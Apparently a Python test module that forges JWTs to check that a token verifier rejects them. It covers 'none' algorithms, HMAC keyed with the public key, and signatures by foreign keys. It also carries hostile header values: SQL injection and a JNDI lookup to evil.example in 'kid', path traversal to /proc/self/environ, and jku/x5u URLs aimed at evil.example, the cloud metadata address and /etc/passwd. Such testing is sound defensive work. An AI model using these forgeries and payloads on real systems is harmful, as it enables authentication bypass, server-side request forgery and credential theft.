"""Tricks with the proof: no signature, another algorithm, another key, a key that comes along."""

import hmac
import json
from functools import cache
from itertools import product
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.ed448 import Ed448PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from integration.crypto.forging.forger import STRANGER, Forger, Members, Tricks, encoded


def unsigned(forger: Forger) -> Tricks:
    """Say that no signature is needed (RFC 8725, 2.1)."""
    for none in ("none", "None", "NONE", "nOnE", "", None):
        header = forger.header | {"alg": none}
        bare = f"{encoded(header)}.{encoded(forger.better)}."
        yield f"alg {none!r}", bare
        yield f"alg {none!r}, padded", bare + "="
        yield f"alg {none!r}, our signature", bare + forger.parts[2]
        yield f"alg {none!r}, a stranger's signature", forger.strangers(header)
    for name, signature in {"no": "", "an empty": encoded(b""), "a zero": encoded(bytes(64)), "a short": "AA"}.items():
        yield f"{name} signature", f"{forger.parts[0]}.{encoded(forger.better)}.{signature}"


def keyed_with_what_is_public(forger: Forger) -> Tricks:
    """Use the public key as a shared secret, in whatever form a verifier may hold it."""
    forms = {
        "raw": forger.public.public_bytes_raw(),
        "PEM": forger.public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
        "DER": forger.public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "OpenSSH": forger.public.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
        "JWK": json.dumps(forger.keys.jwks()["keys"][0]).encode(),
        "kid": forger.keys.signing.encode(),
        "empty": b"",
    }
    for (form, secret), size in product(forms.items(), (256, 384, 512)):
        for name in (f"HS{size}", f"hs{size}", "EdDSA"):
            signed = f"{encoded(forger.header | {'alg': name})}.{encoded(forger.better)}"
            mac = hmac.digest(secret, signed.encode(), f"sha{size}")
            yield f"{name} by HMAC-{size} with {form}", f"{signed}.{encoded(mac)}"


@cache
def _keys_of_others() -> dict[str, Any]:
    rsa_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    return {
        "ES256": ec.generate_private_key(ec.SECP256R1()),
        "ES384": ec.generate_private_key(ec.SECP384R1()),
        "ES512": ec.generate_private_key(ec.SECP521R1()),
        "ES256K": ec.generate_private_key(ec.SECP256K1()),
        "RS256": rsa_key,
        "RS512": rsa_key,
        "PS256": rsa_key,
        "PS512": rsa_key,
    }


def of_other_curves(forger: Forger) -> Tricks:
    """Sign rightly, with an algorithm that is not ours, under its own name or ours."""
    for algorithm, key in _keys_of_others().items():
        payload = json.dumps(forger.better).encode()
        good = jwt.PyJWS().encode(payload, key, algorithm, {"kid": forger.keys.signing, "typ": forger.header["typ"]})
        yield f"a stranger's {algorithm} that verifies", good
        yield f"a stranger's {algorithm} as EdDSA", f"{forger.parts[0]}.{good.split('.', 1)[1]}"
    curve = Ed448PrivateKey.generate()
    for alg in ("EdDSA", "Ed448"):
        signed = f"{encoded(forger.header | {'alg': alg})}.{encoded(forger.better)}"
        yield f"a stranger's curve 448 as {alg}", f"{signed}.{encoded(curve.sign(signed.encode()))}"


def of_other_keys(forger: Forger) -> Tricks:
    """Name other algorithms and keys."""
    algorithms = ("EdDSA", "Ed25519", "ES256", "RS256", "PS256", "EdDSA ", "eddsa", "Ed448", "EDDSA", "\u0415dDSA")
    for algorithm in algorithms:
        yield f"a stranger's {algorithm!r}", forger.strangers(forger.header | {"alg": algorithm})
    for wrong in (["EdDSA"], {"EdDSA": True}, 0, True):
        yield f"alg {wrong!r}", forger.ours(forger.header | {"alg": wrong}, forger.claims)
    signing = forger.keys.signing
    kids = (
        "",
        "../../dev/null",
        "/dev/null",
        "../../../../proc/self/environ",
        "file:///dev/null",
        "https://evil.example/key",
        "x' or '1'='1",
        "x' union select 'AA' --",
        "${jndi:ldap://evil.example}",
        "|/bin/true",
        "\r\nX: y",
        "\x00",
        signing + "\x00",
        signing[:-1],
        signing.swapcase(),
        signing + " ",
        "0",
        "*",
        0,
        None,
        [signing],
        {"kid": signing},
    )
    for number, kid in enumerate(kids):
        yield f"a stranger's kid {number}", forger.strangers(forger.header | {"kid": kid})
        yield f"our signature, kid {number}", forger.ours(forger.header | {"kid": kid}, forger.claims)


def of_keys_brought_along(forger: Forger) -> Tricks:
    """Bring a key, or say where one is to be had; say what must be understood (RFC 7515, 4.1)."""
    own = {"kty": "OKP", "crv": "Ed25519", "x": encoded(STRANGER.public_key().public_bytes_raw())}
    places = (
        "https://evil.example/jwks.json",
        "http://169.254.169.254/latest/meta-data",
        "http://localhost:8000/.well-known/jwks.json",
        "file:///etc/passwd",
        "data:application/json,{}",
        "//evil.example/jwks.json",
        "",
    )
    carried: tuple[Members, ...] = (
        {"jwk": own},
        {"jwk": own | {"kid": forger.keys.signing}},
        *({"jku": place} for place in places),
        *({"x5u": place} for place in places),
        {"x5c": ["AAAA"]},
        {"x5t": "AAAA"},
        {"x5t#S256": "AAAA"},
        {"crit": ["exp"], "exp": 0},
        {"crit": []},
        {"crit": ["unheard-of"], "unheard-of": 1},
        {"b64": False, "crit": ["b64"]},
        {"b64": False},
        {"b64": True, "crit": ["b64"]},
        {"zip": "DEF"},
        {"cty": "JWT"},
        {"enc": "A256GCM"},
        {"nonce": "x"},
        {"alg2": "none"},
    )
    for number, member in enumerate(carried):
        name = f"{next(iter(member))} {number}"
        yield f"a stranger's {name}", forger.strangers(forger.header | member)
        yield f"our signature, {name}", forger.ours(forger.header | member, forger.claims)
